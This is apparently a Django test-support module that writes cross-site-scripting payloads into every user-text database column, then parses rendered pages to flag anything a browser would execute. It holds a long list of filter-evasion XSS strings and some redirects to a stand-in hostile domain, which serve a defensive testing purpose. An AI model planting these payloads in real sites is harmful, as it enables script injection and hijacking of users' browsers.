"""Texts that try to run something, put in every column that holds words of people; what runs.

The shapes are those of the OWASP cheat sheet on evading filters, in words of our own. Whatever
runs calls ``aangevallen``.
"""

import json
import re
from collections.abc import Iterable
from html.parser import HTMLParser
from typing import Any

import pgtrigger
from django.apps import apps
from django.db import connection, models, transaction
from django.db.models.fields.generated import GeneratedField
from django.db.utils import Error

RUN = "aangevallen=1"
ATTACKS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style><script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f'<IMG """><script>{RUN}</script>">',
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    "<object data=data:text/html;base64,PHNjcmlwdD4x></object>",
    "<meta http-equiv=refresh content='0;url=//kwaad.voorbeeld'>",
    "<base href=//kwaad.voorbeeld/>",
    "<link rel=stylesheet href=//kwaad.voorbeeld/x.css>",
    "<style>@import'//kwaad.voorbeeld/x.css';</style>",
    "<form action=//kwaad.voorbeeld><button>Verder</button></form>",
    f"<a href=javascript:{RUN}>hier</a>",
    f"<p style=background:url(javascript:{RUN})>a",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"${{{RUN}}}{{{{{RUN}}}}}",
    f"[hier](javascript:{RUN})",
    f"[hier](java\tscript:{RUN})",
    f"[hier](&#106;avascript:{RUN})",
    f"[hier](data:text/html,<script>{RUN}</script>)",
    f"![a](javascript:{RUN})",
    f'![a" onerror="{RUN}](/bestanden/x)',
    f"[a]: javascript:{RUN}\n[a]",
    f"<javascript:{RUN}>",
    f"`<script>{RUN}</script>`\n\n    <script>{RUN}</script>",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | d |",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\ufeff<script>{RUN}</script>\u202e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"javascript:{RUN}",
    f"<x contenteditable onblur={RUN}>",
    "<i onclick=aangevallen>",
    '"onclick="',
    "<b/on",
]
SHORT = ["<b>", "\"<'"]
OURS = (
    *("communities", "casussen", "bijeenkomsten", "handboek", "bijlagen", "begrippen", "taggit"),
    *("zoeken", "berichten", "avg", "uitvoer", "verantwoording"),
)
# What no person types, and what a form takes in one form only.
CODES = re.compile(
    r"(^|_)(slug|key|digest|kind|sha256|hash|mark|email|fingerprint|notation|code|scheme|uri|tooi|"
    r"language|password|token|secret|state|file|photo|maker|form|ip|action|stem|error|purpose|"
    r"trouble|to|id|doi|type|version|dated|choices|werkvorm)$"
)
CHECKED = {
    ("bijlagen_bijlage", "name"),
    ("uitvoer_uitvoer", "about"),
    ("communities_reactie", "part"),
}
NEVER = {"base", "embed", "frame", "frameset", "math", "object"}
DATA = {"application/ld+json", "application/json"}
ADDRESSES = {"action", "cite", "data", "formaction", "href", "poster", "src", "xlink:href"}


def typed(model: type[models.Model]) -> list[str]:
    """Return the columns of a model that hold words of people."""
    return [
        field.column
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, GeneratedField | models.URLField | models.EmailField)
        and not (field.choices or field.unique or field.primary_key or CODES.search(field.name))
        and (model._meta.db_table, field.column) not in CHECKED
    ]


def fill(tables: Iterable[str] | None = None) -> int:
    """Put an attack in every such column of every row, each another; return how many columns."""
    wanted = None if tables is None else set(tables)
    filled = 0
    for model in apps.get_models():
        table = model._meta.db_table
        ours = model._meta.app_label in OURS and not hasattr(model, "pgh_tracked_model")
        if ours and (wanted is None or table in wanted):
            for column in typed(model):
                filled += _fill(model, column, filled)
    return filled


def _fill(model: type[models.Model], column: str, shift: int) -> bool:
    [longest] = [f.max_length for f in model._meta.concrete_fields if f.column == column]
    fitting = [each for each in ATTACKS if not longest or len(each) <= longest] or SHORT
    table, key = model._meta.db_table, model._meta.pk.column
    numbered = (
        f'SELECT "{key}" AS of, row_number() OVER (ORDER BY "{key}") AS number FROM "{table}"'
    )
    with transaction.atomic(), pgtrigger.ignore(), connection.cursor() as cursor:
        try:
            with transaction.atomic():
                cursor.execute(
                    f'UPDATE "{table}" SET "{column}" = (%s::text[])[1 + (row.number + %s) %% %s]'
                    f' FROM ({numbered}) row WHERE "{key}" = row.of AND "{column}" <> \'\'',
                    [fitting, shift * 7, len(fitting)],
                )
        except Error:
            return False  # a column that the database itself keeps in a form
        return cursor.rowcount > 0


class Active(HTMLParser):
    """Collects what a browser would run, or ask elsewhere, in a page of ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.data: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one tag: none of ours has a handler, a style or a script in itself."""
        given = {name: value or "" for name, value in attrs}
        foreign_frame = tag == "iframe" and not given.get("src", "").startswith("/")
        if tag in NEVER or foreign_frame or given.get("http-equiv", "").lower() == "refresh":
            self.found.append(tag)
        for name, value in given.items():
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            leads = name in ADDRESSES and ("script:" in plain[:12] or "//kwaad" in plain)
            dressed = name == "style" and ("aangevallen" in plain or "url(" in plain)
            if name.startswith("on") or name == "srcdoc" or leads or dressed:
                self.found.append(f"{tag} {name}={value}")
        if tag == "script" and not given.get("src"):
            self.data = []
            if given.get("type") not in DATA:
                self.found.append(f"script {attrs}")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        """Keep what stands in a block of data."""
        if self.data is not None:
            self.data.append(data)

    def handle_endtag(self, tag: str) -> None:
        """A block of data is data to its end."""
        if tag == "script" and self.data is not None:
            try:
                json.loads("".join(self.data) or "{}")
            except ValueError:
                self.found.append(f"data {''.join(self.data)[:80]}")
            self.data = None


def active(html: str) -> list[str]:
    """Return what is active in a page; nothing, in a good one."""
    parser = Active()
    parser.feed(html)
    parser.close()
    return parser.found


def said(response: Any) -> str:
    """Return the text of an answer."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return str(body.decode("utf-8", "replace"))
